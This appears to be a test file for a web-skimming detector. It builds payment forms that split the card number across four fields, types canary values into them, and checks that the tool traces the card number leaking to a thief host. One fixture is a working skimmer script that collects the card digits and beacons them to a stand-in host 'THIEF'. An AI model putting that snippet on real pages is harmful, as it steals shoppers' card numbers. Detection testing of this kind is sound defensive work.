import { atDepth } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { browser, shareBrowser } from './shared-browser.ts'
import { watchPage } from './watch-page.ts'

shareBrowser()

const four = (more = (_at: number) => '') => [1, 2, 3, 4].map((at) => `<input name="x${at}" maxlength=4 ${more(at)}>`).join('')
/** Goes on to the next field once one is full, as such forms do. */
const shop = `const all = [...document.querySelectorAll('input[maxlength="4"]')]
all.forEach((field, at) => field.addEventListener('input', () => { if (field.value.length === 4) all[at + 1]?.focus() }))`
const skimmer = `document.addEventListener('input', function take() {
  const card = [...document.querySelectorAll('input[maxlength="4"]')].slice(0, 4).map((field) => field.value).join('')
  if (card.length === 16) navigator.sendBeacon('http://THIEF/c', card)
})`

/** Ways to name four fields: the short form has three that differ most. */
const named: [by: string, group: string][] = [
  ['a legend', `<fieldset><legend>Card number</legend>${four()}</fieldset>`],
  ['a label for the first field', `<label for=one>Card number</label><div>${four((at) => (at === 1 ? 'id=one' : ''))}</div>`],
  ['what each says of itself', `<div>${four((at) => `aria-label="Card number, digits ${at * 4 - 3} to ${at * 4}"`)}</div>`],
  ['a legend over a row', `<fieldset><legend>Número de tarjeta</legend><div class=row>${four()}</div></fieldset>`],
  ['the group’s name', `<div role=group aria-label="Kartennummer">${four()}</div>`],
  [
    'an element that names the group',
    `<p id=said>Card number</p><hr><div><span>x</span></div><div role=group aria-labelledby=said>${four()}</div>`,
  ],
  ['a heading beside', `<div><h3>Card number</h3><div>${four()}</div></div>`],
  ['their names', `<div>${four().replaceAll('name="x', 'name="cc')}</div>`],
]

describe('a card number in four fields', () => {
  it.each(atDepth(named.slice(0, 3), named))('is known by %s, typed into its fields, and found where it leaves', async (_by, group) => {
    const body = `<form action="/pay" method="post">${group}<label>Security code <input name=cvc maxlength=4></label><button>Pay</button></form>`
    const { capture, canary, thiefHost } = await watchPage(browser, { body, shop, skimmer })
    const parts = capture.fields.filter(({ kind }) => kind === 'card-number')
    expect(parts.map(({ part }) => part)).toEqual([0, 4, 8, 12].map((from) => ({ from, chars: 4 })))
    expect(canary.typedInto.map(({ kind, verified }) => [kind, verified])).toEqual([
      ...Array(4).fill(['card-number', true]),
      ['card-cvc', true],
    ])
    expect(canary.sightings).toContainEqual(expect.objectContaining({ value: 'card', host: thiefHost, where: 'body' }))
    expect(capture.outcome.issues).toEqual([])
  })

  it('is named as not recognised where nothing names it, and a code of another sort is left alone', async () => {
    const unnamed = await watchPage(browser, { body: `<form>${four()}</form>` })
    expect(unnamed.canary.typedInto).toEqual([])
    expect(unnamed.capture.outcome.issues).toMatchObject([{ code: 'typing-incomplete', cause: { code: 'card-in-parts-unclear' } }])
    const voucher = await watchPage(browser, { body: `<form><fieldset><legend>Gift card number</legend>${four()}</fieldset></form>` })
    expect([voucher.canary.typedInto, voucher.capture.outcome.issues]).toEqual([[], []])
  })
})
